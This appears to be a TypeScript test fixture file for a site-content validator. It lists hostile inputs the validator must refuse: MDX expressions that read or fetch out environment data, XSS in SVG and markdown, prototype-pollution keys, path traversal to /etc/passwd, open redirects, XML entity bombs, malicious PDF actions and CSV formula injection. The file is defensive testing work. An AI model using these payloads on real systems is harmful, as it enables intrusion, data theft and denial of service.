        ["import-of-a-host", `import a from "${elsewhere}/a.js"`],
        ["import-of-text", 'import text from "../../package.json?raw"'],
        ["import-of-everything", 'export const all = import.meta.glob("/**", { eager: true })'],
        ["export-constant", `export const a = ${env}`],
        ["export-default", `export default () => ${write}`],
        ["export-after-blank-lines", `Words.\n\n\n\nexport const a = ${env}`, 5],
        ["export-over-lines", `export const a = {\n  b: ${env},\n}`],
        ["export-from", 'export * from "node:child_process"'],
        ["export-async", `export async function getStaticPaths() { ${write} }`],
        ["expression", `{${env}}`],
        ["expression-in-line", `Words {${env}} words.`],
        ["expression-in-heading", `## Words {${env}}`],
        ["expression-in-item", `- one\n- {${env}}`, 2],
        ["expression-in-table", `| a |\n| --- |\n| {${env}} |`, 3],
        ["expression-in-quotation", `> {${env}}`],
        ["expression-in-link", `[words {${env}}](/strategy/)`],
        ["expression-that-writes", `{${write}}`],
        ["expression-that-fetches", `{await fetch("${elsewhere}/" + ${env})}`],
        ["expression-at-once", `{(() => { ${write} })()}`],
        ["expression-template", "{`${" + env + "}`}"],
        ["expression-over-lines", `{\n  ${env}\n}`],
        ["expression-behind-comment", `{/* words */ ${env}}`],
        ["expression-spread", "{...process.env}"],
        ["expression-never-ends", "{() => { while (true) {} }}"],
        ["expression-constructor", `{[].constructor.constructor("return ${env}")()}`],
        ["element-script", `<script>{\`${call}\`}</script>`],
        ["element-with-handler", `<div onClick="${call}">words</div>`],
        ["element-picture", '<img src="x" onError="canary()" />'],
        ["element-in-line", 'Words <a href="javascript:canary()">words</a>.'],
        ["element-set-html", "<p set:html={'<script>canary()</script>'} />"],
        ["fragment", "<>words</>"],
        ["fragment-around-code", `<>\n\n{${env}}\n\n</>`],
        ["member-name", '<Callout.constructor prop="x" />'],
        ["member-of-lower-name", "<a.b />"],
        ["namespace-name", '<svg:script href="x" />'],
        ["hyphenated-name", "<x-callout />"],
        ["attribute-expression", `<Quotation who={${env}}>\n\nWords.\n\n</Quotation>`],
        ["attribute-template", "<Quotation who={`${" + env + "}`}>\n\nWords.\n\n</Quotation>"],
        ["attribute-literal-in-braces", '<Callout kind={"inset"}>\n\nWords.\n\n</Callout>'],
        ["attribute-spread", "<Callout {...process.env}>\n\nWords.\n\n</Callout>"],
        ["attribute-element", '<Quotation who=<img src="x" />>\n\nWords.\n\n</Quotation>'],
        ["expression-in-component", `<Callout>\n\nWords {${env}}.\n\n</Callout>`, 3],
        ["element-in-component", "<Callout>\n\n<script>canary()</script>\n\n</Callout>", 3],
        ["component-never-closed", "<Callout>\n\nWords."],
        ["html-comment-without-end", "<!-- words"],
        ["html-comments-between-code", "`a` <!-- b -->\n".repeat(1000), 21],
        ["javascript-in-component", `<Callout>\n\n[words](javascript:${call})\n\n</Callout>`, 3],
        [
          "javascript-as-video",
          `<Video length="1 minute">\n\n![A still](x.png)\n\n[Watch](javascript:${call})\n\n[Transcript](/goals/)\n\n</Video>`,
          5,
        ],
      ],
      "mdx",
    ),
    ...refusedTexts(
      "components",
      [
        ["component-unknown", "<Script />"],
        ["component-of-astro", '<Debug answer="x" />'],
        ["component-of-objects", "<Constructor />"],
        ["attribute-constructor", '<Callout constructor="x">\n\nWords.\n\n</Callout>'],
        ["attribute-proto", '<Callout __proto__="x">\n\nWords.\n\n</Callout>'],
        ["attribute-handler", '<Callout onclick="canary()">\n\nWords.\n\n</Callout>'],
        ["attribute-set-html", '<Callout set:html="<script>canary()</script>">\n\nWords.\n\n</Callout>'],
        ["attribute-client", '<Callout client:load="x">\n\nWords.\n\n</Callout>'],
        ["attribute-slot", '<Callout slot="head">\n\nWords.\n\n</Callout>'],
        [
          "figure-with-address",
          '<Figure src="javascript:canary()" caption="A ward.">\n\n![A ward with rails](x.png)\n\n</Figure>',
        ],
        [
          "video-in-a-frame",
          '<Video src="https://video.example/1" length="1 minute">\n\n![A still](x.png)\n\n[Watch](https://video.example/1)\n\n[Transcript](/goals/)\n\n</Video>',
        ],
        ["component-in-component", "<Callout>\n\n<Callout>\n\nWords.\n\n</Callout>\n\n</Callout>", 3],
        ["component-in-a-line", 'Words <Measure id="complaints" /> words.'],
        ["path-as-id", '<Measure id="../../etc/passwd" />'],
      ],
      "mdx",
    ),
    ...refusedTexts("known-ids", [["measure-of-objects", '<Measure id="constructor-name" />']], "mdx"),
    refusedFile(
      "components",
      "component-in-markdown",
      "strategy/component-in-markdown.md",
      pageOf("<Callout>\n\nWords.\n\n</Callout>"),
      7,
    ),
    refusedFile("file-place", "page-of-astro", "strategy/page.astro", `---\n${write}\n---\n`),
    refusedFile("file-place", "script-file", "strategy/page.mdx.js", write),
    refusedFile("file-place", "layout-of-a-folder", "strategy/_layout.astro", "<slot />"),
    ...inertTexts(
      [
        ["escaped-braces", `\\{${env}\\} and \\<Callout> and \`{${env}}\``],
        ["code-in-fence-of-mdx", `~~~js\nimport fs from "node:fs";\n{${env}}\n~~~`],
        ["braces-as-entities", `&#123;${env}&#125; and &lbrace;${env}&rbrace;`],
        ["import-as-word", `We import {lots} of care`.replace("{lots}", "lots")],
        [
          "quotation-of-tags",
          `<Quotation who="A nurse &lt;img src=x onerror=${call}&gt;" source='"><script>${call}</script>'>\n\nWords.\n\n</Quotation>`,
        ],
        [
          "heading-of-callout",
          `<Callout kind="warning" heading="</h3><script>${call}</script>{{ {}.x*7 }}">\n\nWords.\n\n</Callout>`,
        ],
        ["comments-of-both-kinds", `{/* ${env} */}\n\nWords<!-- {${env}} */} --> and words.`],
        ["attribute-of-code", `<Quotation who="{${env}}">\n\nWords.\n\n</Quotation>`],
      ],
      "mdx",
    ),
  ],
};

const measure = { label: "Rooms", unit: "rooms", counts: "Rooms, each once.", better: "up" };

/** The lists that an id is a key of, with what stands under it. */
const lists = {
  "places.yaml": { name: "Objecttown", about: "A town." },
  "measures.yaml": measure,
  "glossary.yaml": { term: "Object", meaning: "A thing." },
};

const inLists = (id: string): Input[] =>
  Object.entries(lists).map(([path, entry]) => ({
    name: `${id}-in-${path.replace(".yaml", "")}`,
    data: { [path]: { [id]: entry } },
    expected: "inert",
  }));

/** Figures that are no numbers, where numbers are meant: of a size or a form that nothing must count. */
const figures: Family = {
  name: "Figures",
  inputs: [
    ...[
      ["infinite", "1e999", "schema"],
      ["no-number", ".nan", "schema"],
      ["in-hexadecimal-words", "0x10 rooms", "schema"],
      ["markup", '"<b>5</b>"', "schema"],
      ["formula", '"=1+1"', "schema"],
      ["range-that-falls", "20 to 10", "schema"],
      ["long-range", `${"9".repeat(5000)} to 1`, "schema"],
      ["of-400-digits", "1".repeat(400), "schema"],
      ["of-300-digits", "1".repeat(300), "schema"],
      ["that-loses-a-digit", "9007199254740993", "schema"],
      ["below-nothing", "fewer than -5", "schema"],
      ["below-zero", "fewer than 0", "schema"],
      ["below-400-digits", `fewer than ${"9".repeat(400)}`, "schema"],
    ].map(([name = "", value = "", rule = ""]) => readingOf(`figure-${name}`, `value: ${value}`, rule)),
    readingOf("figure-without-reason", "value: not available", "schema"),
    readingOf("figure-revising-none", "value: 3, revised: Late.", "readings"),
    {
      name: "markup-in-a-note",
      files: {
        "updates/2025-01-08-notes.md": readingFile(
          `value: 3, note: "<img src=x onerror=${call}>", provisional: true`,
        ),
      },
      data: {
        "measures.yaml": {
          "figures-of-notes": {
            ...measure,
            baseline: { value: 1 },
            definitionChanges: [{ from: "2024-01-01", note: `</desc><script>${call}</script>` }],
          },
        },
      },
      expected: "inert",
    },
  ],
};

function readingFile(reading: string): string {
  return `---
title: Notes
published: 2025-01-08
summary: What was counted.
sections:
  - id: notes
    heading: Notes
    readings: [{ measure: figures-of-notes, ${reading} }]
---

There were 3.
`;
}

function readingOf(name: string, reading: string, rule: string): Input {
  const path = `updates/2025-01-08-${name}.md`;
  return {
    name,
    files: { [path]: readingFile(reading) },
    data: { "measures.yaml": { "figures-of-notes": measure } },
    expected: { rule, path, line: 8 },
  };
}

const objectsPage = (name: string, yaml: string): Input =>
  refusedFile("schema", name, pagePath(name), pageOf("Words.", "A page", `${yaml}\n`), 5);

/** Names that every JavaScript object has, where the content names something. */
const objects: Family = {
  name: "Names of objects",
  inputs: [
    refusedFile("schema", "proto-in-places", "places.yaml", "__proto__: { name: A, about: B. }\n"),
    refusedFile("schema", "proto-in-measures", "measures.yaml", '"__proto__": { isAdmin: true }\n'),
    refusedFile("schema", "proto-in-glossary", "glossary.yaml", "__proto__: { term: A, meaning: B. }\n"),
    refusedFile("schema", "proto-in-redirects", "redirects.yaml", "__proto__: { to: /goals/ }\n"),
    refusedFile(
      "schema",
      "proto-in-a-place",
      "places.yaml",
      "a: { name: A, about: B., __proto__: { within: c } }\n",
    ),
    objectsPage("proto-in-front-matter", "__proto__: { draft: false }"),
    objectsPage("proto-in-a-commitment", "commitments: [{ id: a, promise: B., __proto__: { who: c } }]"),
    objectsPage("constructor-in-front-matter", "constructor: { prototype: { draft: false } }"),
    objectsPage("to-string-in-front-matter", "toString: canary"),
    objectsPage("value-of-in-a-group", "withdrawn: { date: 2024-01-08, reason: B., valueOf: c }"),
    objectsPage("to-json-in-a-commitment", "commitments: [{ id: a, promise: B., toJSON: c }]"),
    objectsPage("then-in-front-matter", "then: canary"),
    objectsPage("has-own-property-as-id", "commitments: [{ id: hasOwnProperty, promise: B. }]"),
    refusedFile(
      "known-ids",
      "constructor-as-programme",
      "workstreams/a.md",
      "---\ntitle: A\nsummary: A.\nprogramme: constructor\n---\n\nWords.\n",
      4,
    ),
    ...inLists("constructor"),
    ...inLists("prototype"),
    { name: "page-of-objects", files: { "strategy/constructor.md": pageOf("Words.") }, expected: "inert" },
    {
      name: "workstream-of-objects",
      files: {
        "workstreams/constructor.md":
          "---\ntitle: Objects\nsummary: A.\nprogramme: better-care\n---\n\nWords.\n",
      },
      expected: "inert",
    },
    {
      name: "commitment-of-objects",
      files: {
        [pagePath("commitment-of-objects")]: pageOf(
          "Words.",
          "A page",
          "commitments: [{ id: constructor, promise: All is well. }]\n",
        ),
      },
      expected: "inert",
    },
  ],
};

const place = (name: string, path: string): Input => refusedFile("file-place", name, path, pageOf("Words."));
const named = (name: string, path: string): Input => refusedFile("file-name", name, path, pageOf("Words."));
const from = (name: string, address: string): Input =>
  refusedFile(
    "schema",
    name,
    pagePath(name),
    pageOf("Words.", "A page", `redirect_from: [${JSON.stringify(address)}]\n`),
    5,
  );
const to = (name: string, address: string): Input =>
  refusedFile("schema", name, "redirects.yaml", `/a/: { to: ${JSON.stringify(address)} }\n`);
const key = (name: string, address: string): Input =>
  refusedFile("schema", name, "redirects.yaml", `${JSON.stringify(address)}: { to: /goals/ }\n`);
const field = (name: string, yaml: string): Input =>
  refusedFile("schema", name, pagePath(name), pageOf("Words.", "A page", `${yaml}\n`), 5);

/** Paths that would read or write outside the content and the site, or send readers away. */
const paths: Family = {
  name: "Paths",
  inputs: [
    named("dots-in-a-name", "strategy/a..-..-etc.md"),
    named("encoded-dots-in-a-name", "strategy/%2e%2e%2fetc.md"),
    named("backslashes-in-a-name", "strategy/a\\..\\..\\etc.md"),
    named("line-break-in-a-name", "strategy/a\nb.md"),
    named("command-in-a-name", "strategy/a\n::error title=x::b.md"),
    named("markup-in-a-name", "strategy/<img src=x onerror=canary()>.md"),
    named("quote-in-a-name", "strategy/a'\"b.mdx"),
    named("query-in-a-name", "strategy/a?raw.md"),
    named("anchor-in-a-name", "strategy/a#b.md"),
    named("capital-readme", "strategy/README.mdx"),
    named("dots-as-a-plan", "plans/a..b/index.md"),
    named("query-in-a-picture", "strategy/a?raw.png"),
    place("page-outside", "etc/passwd.md"),
    ...["index", "404", "search", "pagefind", "feeds", "data", "goals"].map((id) =>
      refusedFile(
        "unique",
        `page-in-place-of-${id}`,
        `pages/${id}.md`,
        writeMarkdown({ title: "A", summary: "A" }),
      ),
    ),
    named("dots-in-an-address", "pages/a..b.md"),
    named("folder-of-scripts-as-an-address", "pages/_astro.md"),
    place("address-of-two-parts", "pages/a/b.md"),
    place("page-in-a-deep-folder", "strategy/a/b.md"),
    place("page-of-other-ending", "strategy/a.markdown"),
    place("html-file", "strategy/a.html"),
    place("configuration", "astro.config.mjs"),
    place("package", "package.json"),
    place("server-file", "strategy/_headers"),
    {
      name: "link-to-passwords",
      links: { "strategy/a.md": "/etc/passwd" },
      expected: { rule: "file-place", path: "strategy/a.md", line: 1 },
    },
    {
      name: "link-to-the-environment",
      links: { "strategy/a.png": "/proc/self/environ" },
      expected: { rule: "file-place", path: "strategy/a.png", line: 1 },
    },
    {
      name: "link-to-a-folder",
      links: { "goals/more": "/etc" },
      expected: { rule: "file-place", path: "goals/more", line: 1 },
    },
    {
      name: "link-as-site",
      links: { "glossary.yaml": "/etc/hostname" },
      expected: { rule: "file-place", path: "glossary.yaml", line: 1 },
    },
    from("redirect-from-above", "/../../etc/"),
    from("redirect-from-encoded-dots", "/%2e%2e/etc/"),
    from("redirect-from-elsewhere", "https://canary.example/"),
    from("redirect-from-markup", '/"><script>canary()</script>/'),
    from("redirect-from-configuration", '/a/ "/b/"; } location / { return 302 https://canary.example; } #/'),
    from("redirect-from-lines", "/a/\n/* https://canary.example/ 301/"),
    from("redirect-from-any", "/*/"),
    from("redirect-from-a-file", "/index.html"),
    to("redirect-to-elsewhere", "https://canary.example/"),
    to("redirect-to-any-scheme", "//canary.example/"),
    to("redirect-to-backslash", "/\\canary.example/"),
    to("redirect-to-code", "javascript:canary()"),
    to("redirect-to-refresh", "/goals/; url=https://canary.example/"),
    to("redirect-to-quote", '/goals/"; return 302 https://canary.example; "'),
    to("redirect-to-above", "/goals/../../etc/"),
    to("redirect-to-lines", "/goals/\n/b/ https://canary.example/ 301"),
    key("redirect-of-above", "/../etc/"),
    key("redirect-of-markup", "/<script>canary()</script>/"),
    key("redirect-of-configuration", '/a/ "/b/";\n/c/'),
    field("path-as-place", "commitments: [{ id: a, promise: B., places: [../../etc] }]"),
    field("path-as-commitment", "commitments: [{ id: ../../etc/passwd, promise: B. }]"),
    field("markup-as-commitment", `commitments: [{ id: '"onclick="canary()', promise: B. }]`),
    refusedFile(
      "schema",
      "path-as-programme",
      "workstreams/a.md",
      "---\ntitle: A\nsummary: A.\nprogramme: ../better-care\n---\n\nWords.\n",
      4,
    ),
    refusedFile("schema", "path-as-key", "places.yaml", "../etc: { name: A, about: B. }\n"),
    refusedFile(
      "schema",
      "markup-as-id",
      "glossary.yaml",
      `'"><script>canary()</script>': { term: A, meaning: B. }\n`,
    ),
    ...refusedTexts("images", [
      ["picture-above", "![A ward with rails](../../../../etc/passwd.png)"],
      ["picture-of-encoded-dots", "![A ward with rails](%2e%2e/%2e%2e/package.json)"],
      ["picture-of-root", "![A ward with rails](/../package.json)"],
      ["picture-as-text", "![A ward with rails](../site.yaml?raw)"],
      ["picture-of-vite", "![A ward with rails](/@fs/etc/passwd?raw)"],
      ["picture-of-a-package", "![A ward with rails](~/package.json)"],
      ["picture-with-quote", '![A ward with rails](<a"; import "./b.js>)'],
      ["picture-of-a-page", "![A ward with rails](our-strategy.md)"],
    ]),
    ...refusedTexts("links", [
      ["link-above", "[words](/../../etc/passwd)"],
      ["link-to-a-file-here", "[words](../site.yaml)"],
      ["link-with-backslash", "[words](</\\canary.example/>)"],
    ]),
    {
      name: "hidden-page",
      files: { "strategy/.hidden.md": pageOf("<script>canary()</script>") },
      expected: { rule: "file-place", path: "strategy/.hidden.md", line: 1 },
    },
    {
      name: "dots-and-backslashes",
      files: { "strategy/..\\..\\etc.md": pageOf("<script>canary()</script>") },
      expected: { rule: "file-place", path: "strategy/..\\..\\etc.md", line: 1 },
    },
    {
      name: "hidden-folder",
      files: { ".git/hooks/post-checkout": "#!/bin/sh\ntouch stolen.txt\n" },
      expected: "inert",
    },
    refusedFile("file-place", "hidden-settings", ".env", "CANARY_SECRET=other\nASTRO_KEY=x\n"),
    refusedFile("file-place", "hidden-attributes", ".gitattributes", "*.md filter=canary\n"),
    {
      name: "hidden-part",
      files: {
        "plans/2024-25/.hidden.md": pageOf("[words](javascript:canary())", "A page", "order: 9\n"),
        "plans/2024-25/.hidden.mdx": pageOf('<Callout set:html="<script>canary()</script>" />'),
      },
      expected: { rule: "file-place", path: "plans/2024-25/.hidden.mdx", line: 1 },
    },
    {
      name: "readme",
      files: { "strategy/README.md": "<script>canary()</script>{process.env.CANARY_SECRET}\n" },
      expected: "inert",
    },
  ],
};

const picturesPage = (name: string, picture: string): ContentFiles => ({
  [pagePath(name)]: pageOf(`![A ward with rails](${picture})`),
});

/** A picture that the rule of pictures must refuse, on a page that shows it. */
const refused = (name: string, extension: string, content: string | Uint8Array, line = 1): Input => {
  const path = `strategy/${name}.${extension}`;
  const files = { [path]: content, ...picturesPage(name, `${name}.${extension}`) };
  return { name, files, expected: { rule: "pictures", path, line } };
};

/** A picture that the rule of images must refuse where a page shows it. */
const refusedOnPage = (name: string, extension: string, content: string | Uint8Array): Input => ({
  name,
  files: { [`strategy/${name}.${extension}`]: content, ...picturesPage(name, `${name}.${extension}`) },
  expected: { rule: "images", path: pagePath(name), line: 7 },
});

const inert = (name: string, extension: string, content: string | Uint8Array): Input => ({
  name,
  files: { [`strategy/${name}.${extension}`]: content, ...picturesPage(name, `${name}.${extension}`) },
  expected: "inert",
});

function drawing(inside: string, attributes = ""): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" width="60" height="40"${attributes}>${inside}</svg>\n`;
}
const linked = ' xmlns:xlink="http://www.w3.org/1999/xlink"';

const numbered = (count: number, write: (number: number) => string) =>
  Array.from({ length: count }, (_, number) => write(number)).join("");
const clips = numbered(25, (number) => {
  const clipped = `<rect clip-path="url(#a${number})"/>`;
  return `<clipPath id="a${number + 1}">${clipped}${clipped}</clipPath>`;
});
const gradients = numbered(4900, (number) => `<linearGradient id="a${number}" href="#a${number + 1}"/>`);

const drawings: [name: string, svg: string, line?: number][] = [
  ["drawing-script", drawing(`<script>${call}</script>`)],
  ["drawing-script-of-a-line", drawing(`\n<rect width="6" height="4"/>\n<script>${call}</script>\n`), 3],
  ["drawing-script-of-a-host", drawing(`<script href="${elsewhere}/a.js"/>`)],
  ["drawing-script-in-capitals", drawing(`<SCRIPT>${call}</SCRIPT>`)],
  [
    "drawing-script-of-another-name",
    drawing(`<a:script>${call}</a:script>`, ' xmlns:a="http://www.w3.org/2000/svg"'),
  ],
  ["drawing-script-of-a-page", drawing(`<script xmlns="http://www.w3.org/1999/xhtml">${call}</script>`)],
  ["drawing-script-in-data", drawing(`<![CDATA[<script>]]><script><![CDATA[${call}]]></script>`)],
  ["drawing-handler", drawing("", ` onload="${call}"`)],
  ["drawing-handler-in-capitals", drawing(`<rect ONCLICK='${call}'/>`)],
  ["drawing-handler-over-lines", drawing(`<rect\nonclick\n=\n"${call}"/>`), 2],
  ["drawing-link-of-code", drawing(`<a href="javascript:${call}"><text y="9">words</text></a>`)],
  [
    "drawing-link-of-code-by-xlink",
    drawing(`<a xlink:href="javascript:${call}"><text y="9">words</text></a>`, linked),
  ],
  [
    "drawing-foreign-object",
    drawing(`<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${call}"/></foreignObject>`),
  ],
  ["drawing-frame", drawing(`<iframe xmlns="http://www.w3.org/1999/xhtml" src="${elsewhere}"/>`)],
  ["drawing-picture", drawing(`<image href="${elsewhere}/a.png" width="6" height="4"/>`)],
  ["drawing-gradient-of-a-host", drawing(`<linearGradient href="${elsewhere}/a.svg#b"/>`)],
  ["drawing-use-of-data", drawing(`<use href="data:image/svg+xml;base64,PHN2Zz4=#a"/>`)],
  ["drawing-gradient-by-number", drawing(`<linearGradient href="&#35;a"/>`)],
  [
    "drawing-bomb",
    drawing(
      `<g id="a"><rect/></g>${"bcdefgh".replace(/./g, "<g id='$&'><use href='#a'/><use href='#a'/></g>")}`,
    ),
  ],
  ["drawing-clip-bomb", drawing(`<clipPath id="a0"><rect/></clipPath>${clips}<rect clip-path="url(#a25)"/>`)],
  ["drawing-long-clip", drawing(`<clipPath id="a"><path d="${"M0 0L6 4".repeat(9000)}"/></clipPath>`)],
  ["drawing-of-nested-groups", drawing("<g>".repeat(4000) + "</g>".repeat(4000))],
  ["drawing-of-gradients", drawing(gradients)],
  ["drawing-cut-off", drawing("<rect/>").replace("</svg>", "")],
  ["drawing-base", drawing("<rect/>", ` xml:base="${elsewhere}/"`)],
  ["drawing-animated", drawing(`<animate attributeName="href" values="javascript:${call}"/>`)],
  ["drawing-set", drawing(`<set attributeName="onmouseover" to="${call}"/>`)],
  ["drawing-style", drawing(`<style>@import "${elsewhere}/a.css";</style>`)],
  ["drawing-style-attribute", drawing(`<rect style="fill: url(${elsewhere}/a.svg#b)"/>`)],
  ["drawing-fill-of-a-host", drawing(`<rect fill="url(${elsewhere}/a.svg#b)"/>`)],
  ["drawing-filter-of-a-host", drawing(`<rect filter="url('${elsewhere}/a.svg#b')"/>`)],
  ["drawing-entity", `<!DOCTYPE svg [<!ENTITY a "<script>${call}</script>">]>\n${drawing("&a;")}`],
  ["drawing-entity-bomb", `<!DOCTYPE svg [<!ENTITY a "xx"><!ENTITY b "&a;&a;">]>\n${drawing("&b;")}`],
  ["drawing-entity-of-a-file", `<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>\n${drawing("&a;")}`],
  ["drawing-stylesheet", `<?xml-stylesheet href="${elsewhere}/a.xsl"?>\n${drawing("")}`],
  // Browsers show nothing of a drawing that isn’t right as XML.
  ["drawing-of-an-unknown-entity", drawing("<text>a&nbsp;b</text>")],
  ["drawing-of-an-ampersand", drawing("<text>a & b</text>")],
  ["drawing-of-an-ampersand-in-a-value", drawing('<rect class="a & b"/>')],
  ["drawing-of-an-attribute-twice", drawing('<rect width="1" width="2"/>')],
  ["drawing-of-a-control", drawing("<text>a\u0001b</text>")],
  ["drawing-of-a-null", drawing("<text>a\0b</text>")],
  ["drawing-of-the-end-of-data", drawing("<text>]]></text>")],
  ["drawing-of-an-undeclared-prefix", drawing('<linearGradient xlink:href="#a"/>')],
  ["drawing-of-two-roots", drawing("") + drawing(""), 2],
  ["drawing-with-text-behind", `${drawing("")}text`, 2],
  ["drawing-of-no-namespace", drawing("").replace(/ xmlns="[^"]*"/, "")],
  ["drawing-of-another-encoding", `<?xml version="1.0" encoding="utf-7"?>\n${drawing("+ADw-script+AD4-")}`],
];

const chunk = (kind: string, data: Uint8Array): Buffer => {
  const body = Buffer.concat([Buffer.from(kind), data]);
  const [size, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  size.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([size, body, sum]);
};

/** A grey PNG (https://www.w3.org/TR/png-3/), with a text in it and with bytes after its end. */
function png(width: number, height: number, text = "", after = ""): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head[8] = 8;
  const pixels = deflateSync(Buffer.alloc((width + 1) * Math.min(height, 100)));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk("IHDR", head),
    ...(text === "" ? [] : [chunk("tEXt", Buffer.from(`Comment\0${text}`))]),
    chunk("IDAT", pixels),
    chunk("IEND", new Uint8Array()),
    Buffer.from(after),
  ]);
}

const gif = Buffer.from("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7", "base64");
const markup = `<html><script>${call}</script><img src=x onerror=${call}>`;

/** Pictures that run a program, reach another host, are not what their name says or fill a computer’s memory. */
const pictures: Family = {
  name: "Pictures",
  inputs: [
    ...drawings.map(([name, svg, line]) => refused(name, "svg", svg, line)),
    refused("drawing-not-shown", "svg", drawing(`<script>${call}</script>`)),
    refused("drawing-named-png", "png", drawing(`<script>${call}</script>`)),
    refused("harmless-drawing-named-jpg", "jpg", drawing("")),
    refused("png-named-svg", "svg", png(6, 4)),
    refused("gif-named-png", "png", gif),
    refused("png-named-webp", "webp", png(6, 4)),
    refused("page-named-png", "png", markup),
    refused("page-named-svg", "svg", markup),
    refused("program-named-gif", "gif", "#!/bin/sh\ntouch stolen.txt\n"),
    refused("pdf-named-jpg", "jpg", "%PDF-1.7\n"),
    refused("empty-picture", "png", ""),
    refused("program-that-begins-as-gif", "gif", `GIF89a/*  */=0;${call}`),
    refusedOnPage("picture-of-a-billion-pixels", "png", png(40_000, 40_000)),
    refusedOnPage("picture-wider-than-any", "png", png(0xffff_ffff, 1).subarray(0, 60)),
    refusedOnPage("picture-of-20-megabytes", "png", png(6, 4, "", "x".repeat(20_000_000))),
    inert("picture-with-half-a-megabyte-after", "png", png(6, 4, "", "x".repeat(500_000))),
    inert("picture-of-many-pixels", "png", png(9000, 100)),
    inert("png-with-script-in-text", "png", png(6, 4, markup)),
    inert("png-with-page-after", "png", png(6, 4, "", markup)),
    inert("gif-with-script-after", "gif", Buffer.concat([gif, Buffer.from(markup)])),
    inert(
      "drawing-of-text",
      "svg",
      drawing(`<title>&lt;script&gt;${call}&lt;/script&gt;</title><text y="9">javascript:${call}</text>`),
    ),
    {
      name: "words-of-a-picture",
      files: {
        "strategy/words-of-a-picture.png": png(6, 4),
        [pagePath("words-of-a-picture")]: pageOf(
          `![A ward" onerror="${call}](words-of-a-picture.png '"onload="${call}')`,
        ),
      },
      expected: "inert",
    },
  ],
};

/** A page that links to a file beside it, which a rule must refuse or which may be published. */
const attached = (name: string, extension: string, content: string | Uint8Array, passes = false): Input => {
  const path = `strategy/${name}.${extension}`;
  const files = { [path]: content, [pagePath(name)]: pageOf(`[The report](${name}.${extension})`) };
  return { name, files, expected: passes ? "inert" : { rule: "attachments", path, line: 1 } };
};

const sheet = { "xl/workbook.xml": "<workbook/>" };

/** A package whose list says that one part has two billion bytes (APPNOTE.TXT, 4.3.12). */
const growing = Buffer.from(makePackage(sheet));
growing.writeUInt32LE(0x7fff_ffff, growing.lastIndexOf("PK\u0001\u0002", undefined, "latin1") + 24);

/** Files for readers that are not what their name says, run something, can't be opened or fill a computer's memory. */
const attachments: Family = {
  name: "Files for readers",
  inputs: [
    attached("page-named-pdf", "pdf", markup),
    attached("program-named-pdf", "pdf", "#!/bin/sh\ntouch stolen.txt\n"),
    attached("page-named-csv", "csv", `\n ${markup}`),
    attached("drawing-named-docx", "docx", drawing(`<script>${call}</script>`)),
    attached("pdf-named-xlsx", "xlsx", makePdf()),
    attached("package-of-other-things", "docx", makePackage({ "evil.html": markup })),
    attached("package-cut-short", "xlsx", makePackage(sheet).slice(0, 150)),
    attached("sheet-named-docx", "docx", makePackage(sheet)),
    attached("old-or-locked-sheet", "xlsx", Buffer.from("d0cf11e0a1b11ae1", "hex")),
    attached("sheet-with-macros", "xlsx", makePackage({ ...sheet, "xl/vbaProject.bin": "x" })),
    attached(
      "pdf-with-javascript",
      "pdf",
      makePdf({ catalog: `/OpenAction << /S /JavaScript /JS (${call}) >>` }),
    ),
    attached("pdf-that-launches", "pdf", makePdf({ catalog: "/OpenAction << /S /Launch /F (calc.exe) >>" })),
    attached("pdf-of-26-megabytes", "pdf", Buffer.concat([makePdf(), Buffer.alloc(26_000_000)])),
    attached("package-that-grows", "xlsx", growing),
    attached("pdf-with-xfa", "pdf", makePdf({ catalog: "/AcroForm << /XFA [(template) 4 0 R] >>" })),
    attached(
      "pdf-that-sends",
      "pdf",
      makePdf({ catalog: `/OpenAction << /S /SubmitForm /F (${elsewhere}) >>` }),
    ),
    attached(
      "pdf-that-goes-elsewhere",
      "pdf",
      makePdf({ catalog: `/OpenAction << /S /URI /URI (${elsewhere}) >>` }),
    ),
    attached(
      "pdf-with-a-file",
      "pdf",
      makePdf({ catalog: "/Names << /EmbeddedFiles << /Names [(a) << /EF << /F 4 0 R >> >>] >> >>" }),
    ),
    attached("pdf-of-itself", "pdf", makePdf({ catalog: "/Pages 1 0 R" }), true),
    attached(
      "document-with-a-program-in-it",
      "docx",
      makePackage({ "word/document.xml": "<d/>", "word/embeddings/oleObject1.bin": "MZ" }),
    ),
    attached("pdf-and-page", "pdf", Buffer.concat([makePdf(), Buffer.from(markup)]), true),
    attached("pdf-of-nothing", "pdf", `%PDF-1.7\n${markup}`, true),
    attached("names-of-tags", "pdf", makePdf({ title: `<img src=x onerror=${call}>`, author: markup }), true),
    attached("sheet-of-formulas", "csv", `a,b\n=cmd|' /C calc'!A0,"<script>${call}</script>"\n`, true),
  ],
};

// What two readers of one text read differently: one trims it, takes its first lines for a second front matter, has
// marks of its own, or follows an address that another doesn't see.

const readingFront = "---\ntitle: A page\nsummary: A summary.\nsource: Our plan\n---\n";
const harm = `[read more](javascript:canary()) ![A ward](${elsewhere}/pixel.png)`;

/** A page whose text begins so right below its front matter. */
const beginning = (name: string, text: string, rule: string, line = 6): Input =>
  refusedFile(rule, name, pagePath(name), readingFront + text, line);

const inertBeginning = (name: string, text: string): Input => ({
  name,
  files: { [pagePath(name)]: readingFront + text },
  expected: "inert",
});

/** Texts that another reader would trim: the first line is set in. */
const setIn: Family = {
  name: "Texts that begin set in",
  inputs: [
    beginning("set-in-by-four", `    ${harm}\n`, "plain-text"),
    beginning("set-in-by-a-tab", `\t${harm}\n`, "plain-text"),
    beginning("set-in-by-a-space-and-a-tab", ` \t${harm}\n`, "plain-text"),
    beginning("set-in-below-empty-lines", `\n\n    ${harm}\n`, "plain-text", 8),
    beginning("set-in-below-a-line-of-spaces", `   \n    ${harm}\n`, "plain-text", 7),
    beginning("set-in-fence", "    ~~~\n    a\n    ~~~\n\n<b>large</b>\n", "plain-text"),
    beginning("set-in-html", "    5 <b>large</b> ponds.\n\nThe rest.\n", "plain-text"),
    beginning("set-in-picture", "    ![Water](../content/strategy/.pond.mjs?.svg)\n", "plain-text"),
